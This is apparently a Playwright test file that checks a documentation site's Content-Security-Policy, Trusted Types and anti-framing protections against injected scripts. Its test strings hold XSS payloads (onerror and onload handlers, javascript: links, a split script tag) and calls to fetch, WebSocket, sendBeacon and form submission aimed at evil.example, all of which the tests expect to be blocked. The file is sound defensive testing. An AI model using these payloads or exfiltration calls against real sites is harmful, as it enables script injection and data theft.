"""The policy of the pages, of the worker and of the host, and what they stop where a script had got in."""

import json
import re
from html import unescape

import pytest

WIDGET, PLAIN = "/authentication/spf/", "/authentication/alignment/"
META = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
INJECTED = """() => {
    const script = document.createElement("script");
    script.append("globalThis.injected = true");
    document.head.append(script);
}"""
# What a worker that is no longer ours might try. Playwright's own evaluation is not held by the policy, what it starts
# is.
ESCAPES = """async () => {
    const tried = {
        fetch: () => fetch("https://evil.example/"),
        request: () => {
            const one = new XMLHttpRequest();
            one.open("GET", "https://evil.example/", false);
            one.send();
        },
        module: () => import("data:text/javascript,1"),
        socket: () => new Promise((open, refused) => {
            Object.assign(new WebSocket("wss://evil.example/"), { onopen: open, onerror: refused });
        }),
        text: () => setTimeout("1"),
    };
    const out = [];
    for (const [name, attempt] of Object.entries(tried)) {
        await Promise.resolve().then(attempt).then(() => out.push(name), () => undefined);
    }
    return out;
}"""


def directives(policy):
    return {name: set(sources) for name, *sources in (one.split() for one in policy.split(";"))}


@pytest.fixture(scope="module")
def policies(site_folder):
    found = {}
    for path in sorted(site_folder.rglob("*.html")):
        html = path.read_text("utf-8")
        found[path.relative_to(site_folder).as_posix()] = (html, directives(unescape(META.search(html)[1])))
    return found


def test_every_page_allows_only_its_own(policies):
    for name, (html, policy) in policies.items():
        own = {"'self'", "data:", "blob:", "'none'", "'wasm-unsafe-eval'"}
        for directive, sources in policy.items():
            if directive in {"trusted-types", "require-trusted-types-for"}:
                continue
            foreign = {one for one in sources - own if not one.startswith("'sha256-")}
            assert directive == "connect-src" or not foreign, (name, directive, foreign)
            assert all(f'value="{address}"' in html for address in foreign), name
        assert not {"data:", "blob:"} & policy["script-src"], name
        assert policy["require-trusted-types-for"] == {"'script'"}, name
        assert policy["base-uri"] == policy["form-action"] == {"'none'"}, name
        fallen_back = ("font-src", "frame-src", "manifest-src", "media-src", "object-src")
        closed = policy["default-src"] == {"'none'"} or all(policy[one] == {"'none'"} for one in fallen_back)
        assert closed, name


def test_webassembly_runs_on_pages_with_a_widget_alone(policies):
    for name, (html, policy) in policies.items():
        widget = "shell/main.js" in html
        assert ("'wasm-unsafe-eval'" in policy["script-src"]) is widget, name
        assert ("blob:" in policy["worker-src"]) is widget, name


def test_a_script_that_got_in_does_not_run(visit, any_site):
    visitor = visit(any_site)
    page = visitor.open(WIDGET)
    refused = page.evaluate("""() => {
        const tried = {
            markup: () => { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=ran()>"); },
            script: () => { document.createElement("script").src = "https://evil.example/x.js"; },
            inline: () => { document.createElement("script").text = "ran()"; },
            worker: () => { new Worker("https://evil.example/x.js"); },
            made: () => { new Worker(URL.createObjectURL(new Blob(["1"]))); },
            text: () => { setTimeout("ran()"); },
            policy: () => { trustedTypes.createPolicy("mine", { createHTML: (text) => text }); },
            again: () => { trustedTypes.createPolicy("default", { createHTML: (text) => text }); },
        };
        const fails = ([, attempt]) => { try { attempt(); return false } catch { return true } };
        return Object.entries(tried).filter(fails).map(([name]) => name);
    }""")
    page.evaluate(INJECTED)
    page.wait_for_timeout(200)
    assert set(refused) >= {"script", "inline", "worker", "made", "text", "policy", "again"}
    assert page.evaluate("document.querySelectorAll('body > img').length") == 0
    assert not page.evaluate("Boolean(globalThis.injected || globalThis.hasRun)")
    assert page.evaluate("violations.length") > 0
    page.evaluate("violations.length = 0")


def test_a_page_asks_nobody_and_sends_no_form(visit, any_site):
    visitor = visit(any_site)
    page = visitor.open(WIDGET)
    done = page.evaluate("""async () => {
        const out = [];
        await fetch("https://evil.example/").then(() => out.push("fetch"), () => undefined);
        if (navigator.sendBeacon("https://evil.example/")) out.push("beacon");
        const [image, form] = [new Image(), document.createElement("form")];
        image.src = "https://evil.example/x.gif";
        form.action = "https://evil.example/";
        document.body.append(form);
        form.submit();
        await new Promise((resume) => setTimeout(resume, 300));
        return out;
    }""")
    assert "fetch" not in done
    assert page.url == any_site + WIDGET
    # Playwright tells of what was asked for before the policy has refused it: what the policy says counts.
    assert {said.split(" ")[0] for said in page.evaluate("violations")} >= {"connect-src", "img-src", "form-action"}
    page.evaluate("violations.length = 0")
    visitor.foreign.clear()


def test_the_worker_is_held_by_the_pages_policy(visit, any_site):
    visitor = visit(any_site)
    page = visitor.open(WIDGET)
    page.fill("#pl-text", "v=spf1 -all")
    visitor.run()
    worker = next(one for one in page.workers if one.url.startswith("blob:"))
    assert worker.evaluate(ESCAPES) == []
    visitor.foreign.clear()


def test_no_other_site_may_frame_or_hold_a_page(visit, any_site, request):
    if "bare" in request.node.name:
        pytest.skip("only a header can forbid it")
    visitor = visit(any_site)
    page = visitor.context.new_page()
    page.route("http://other.example/*", lambda route: route.fulfill(
        body=f'<iframe src="{any_site}{WIDGET}"></iframe>', content_type="text/html",
    ))  # fmt: skip
    page.goto("http://other.example/")
    page.wait_for_timeout(500)
    assert not any(frame.url.startswith(any_site) and frame.query_selector(".pl-widget") for frame in page.frames)
    with page.expect_popup() as opened:
        page.evaluate("address => { globalThis.held = open(address) }", any_site + WIDGET)
    opened.value.wait_for_load_state()
    assert opened.value.evaluate("window.opener") is None
    page.close()
    visitor.foreign.clear()
    visitor.open(WIDGET)


def test_nothing_is_told_to_where_a_link_leads(visit, any_site):
    visitor = visit(any_site)
    page = visitor.open(WIDGET)
    told = page.evaluate("""() => [...document.querySelectorAll("a[target=_blank]")].map((one) => one.rel)""")
    assert all("noopener" in rel for rel in told)
    assert page.evaluate("document.querySelector('meta[name=referrer]').content") == "no-referrer"
    assert "?" not in page.url


def test_the_browser_knows_every_header(chromium, any_site):
    context = chromium.new_context()
    page, said = context.new_page(), []
    page.on("console", lambda message: said.append(message.text))
    for path in ("/", WIDGET, PLAIN, "/de/codes/"):
        page.goto(any_site + path)
    context.close()
    assert said == []


def test_search_and_theme_go_on_working(visit, any_site):
    visitor = visit(any_site)
    page = visitor.open("/de/codes/")
    page.evaluate("document.querySelector('#__search').checked = true")
    page.fill(".md-search__input", "Richtlinie <img src=x onerror=ran()>")
    page.press(".md-search__input", "End")  # the theme hears keys
    page.wait_for_selector(".md-search-result__item mark", state="attached")
    page.fill(".md-search__input", "DMARC-Richtlinie")
    page.press(".md-search__input", "End")
    shown = "onerror"
    for _ in range(400):  # until the first search, which shows as text what was missing, has made room
        shown = page.evaluate("document.querySelector('.md-search-result__list').textContent")
        if shown and "onerror" not in shown:
            break
        page.wait_for_timeout(50)
    assert "onerror" not in shown
    page.wait_for_selector(".md-search-result__item mark", state="attached")
    assert "<" not in shown.replace("<<", ""), json.dumps(shown[:400])


def test_the_themes_policy_lets_plain_tags_through_alone(visit, bare_site):
    visitor = visit(bare_site)
    page = visitor.open("/")
    kept = page.evaluate("""() => {
        const place = document.createElement("div");
        place.innerHTML = '<p class="a b">x <mark data-md-highlight>y</mark><code>z</code></p>' +
            '<a href="javascript:ran()">l</a><p onclick=ran()>q</p><p class="a" style="x">r</p><svg onload=ran()>' +
            '<p class="a"onclick=ran()>s</p><p class="a" hidden onclick=ran()>t</p>' +
            '<scr<b>ipt>ran()</scr</b>ipt><p/onclick=ran()>';
        return [...place.querySelectorAll("*")].map(
            (one) => one.tagName + [...one.attributes].map((each) => each.name).join());
    }""")
    # A "P" without a class is what a closing tag leaves whose opening one stayed text.
    assert set(kept) == {"P", "Pclass", "MARKdata-md-highlight", "CODE", "B"}
